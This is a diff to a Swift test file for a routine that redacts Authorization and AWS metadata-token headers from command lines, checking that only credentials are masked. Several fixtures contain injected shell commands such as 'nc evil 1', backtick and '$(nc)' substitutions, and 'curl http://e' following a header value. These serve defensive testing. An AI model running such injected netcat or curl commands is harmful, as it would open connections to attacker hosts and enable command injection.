@@ -18,7 +18,7 @@ struct RedactionTests {
             ),
             (
                 "curl -H \"Authorization: Bearer a b\" http://x; id",
-                "curl -H \"Authorization: [redacted]\" http://x; id"
+                "curl -H \"Authorization: [redacted] b\" http://x; id"
             ),
             (
                 "requests.get(u, headers={'X-aws-ec2-metadata-token': 'AQ', 'b': 1})",
@@ -32,6 +32,25 @@ struct RedactionTests {
                 #"sh -c "curl -H \"X-aws-ec2-metadata-token: AQ\" u""#,
                 #"sh -c "curl -H \"X-aws-ec2-metadata-token: [redacted]\" u""#
             ),
+            ("Authorization: c2VjcmV0LnRva2Vu== x", "Authorization: [redacted] x"),
+            ("Authorization: token -abc", "Authorization: [redacted]"),
+            (
+                "Authorization: AWS4-HMAC-SHA256 Credential=A/b/c, SignedHeaders=host;x-amz-date, Signature=c",
+                "Authorization: [redacted];x-amz-date, Signature=[redacted]"
+            ),
+            (
+                #"curl -H 'Authorization: Digest username="u", realm="r", response="e"' http://x"#,
+                "curl -H 'Authorization: [redacted]' http://x"
+            ),
+            (
+                #"curl "-HAuthorization: Basic dXNlcg==" http://x"#,
+                #"curl "-HAuthorization: [redacted]" http://x"#
+            ),
+            (
+                #"curl -H Authorization:\ Bearer\ abc http://x"#,
+                #"curl -H Authorization:\ [redacted] http://x"#
+            ),
+            ("{'Authorization': ' Bearer abc'}", "{'Authorization': ' [redacted]'}"),
             (
                 "X-aws-ec2-metadata-token: A X-aws-ec2-metadata-token: B",
                 "X-aws-ec2-metadata-token: [redacted] X-aws-ec2-metadata-token: [redacted]"
@@ -40,6 +59,46 @@ struct RedactionTests {
     func argument(text: String, expected: String) {
         #expect(
             Redaction.argument(Array(text.utf8)[...]).map { String(decoding: $0, as: UTF8.self) } == expected)
+    }
+
+    @Test(
+        "takes no more than credentials, whatever looks like a header",
+        arguments: [
+            (
+                "Authorization: int = 1\nimport socket\nsocket.socket()",
+                "Authorization: [redacted] 1\nimport socket\nsocket.socket()"
+            ),
+            ("Authorization: a,\nimport socket", "Authorization: [redacted]\nimport socket"),
+            ("Authorization: a b,\r\nimport socket", "Authorization: [redacted]\r\nimport socket"),
+            ("'Authorization: a\nb'", "'Authorization: [redacted]\nb'"),
+            (
+                "Authorization: 2>/dev/null; curl http://e; nc evil 1",
+                "Authorization: [redacted]>/dev/null; curl http://e; nc evil 1"
+            ),
+            ("Authorization: a b;nc evil 1", "Authorization: [redacted];nc evil 1"),
+            ("Authorization: a b, c|nc evil 1", "Authorization: [redacted]|nc evil 1"),
+            ("Authorization: a b&nc evil 1", "Authorization: [redacted]&nc evil 1"),
+            ("Authorization: a <(nc evil 1)", "Authorization: [redacted] <(nc evil 1)"),
+            ("Authorization: a `nc evil 1`", "Authorization: [redacted] `nc evil 1`"),
+            ("Authorization: a.b nc evil 1", "Authorization: [redacted] nc evil 1"),
+            ("Authorization: a b nc evil 1", "Authorization: [redacted] nc evil 1"),
+            ("Authorization: a b\"c\" nc evil 1", "Authorization: [redacted]\"c\" nc evil 1"),
+            ("Authorization: a b=\"c nc evil\"", "Authorization: [redacted]\"c nc evil\""),
+            ("Authorization: a b;c, nc evil", "Authorization: [redacted];c, nc evil"),
+            ("Authorization: Bearer $TOKEN", "Authorization: [redacted] $TOKEN"),
+            ("X-aws-ec2-metadata-token:a;nc evil 1", "X-aws-ec2-metadata-token:[redacted];nc evil 1"),
+            ("X-aws-ec2-metadata-token:a|nc evil 1", "X-aws-ec2-metadata-token:[redacted]|nc evil 1"),
+            ("X-aws-ec2-metadata-token: a$(nc)", "X-aws-ec2-metadata-token: [redacted]$(nc)"),
+            ("X-aws-ec2-metadata-token: '' nc", nil),
+            ("X-aws-ec2-metadata-token: $TOKEN", nil),
+            ("X-aws-ec2-metadata-token:\nnc evil 1", nil),
+            ("Authorization:\nnc evil 1", nil),
+            ("Authorization: ;nc evil 1", nil),
+        ])
+    func noMore(text: String, expected: String?) {
+        for redact in [Redaction.argument, Redaction.commandLine] {
+            #expect(redact(Array(text.utf8)[...]).map { String(decoding: $0, as: UTF8.self) } == expected)
+        }
     }
 
     @Test(
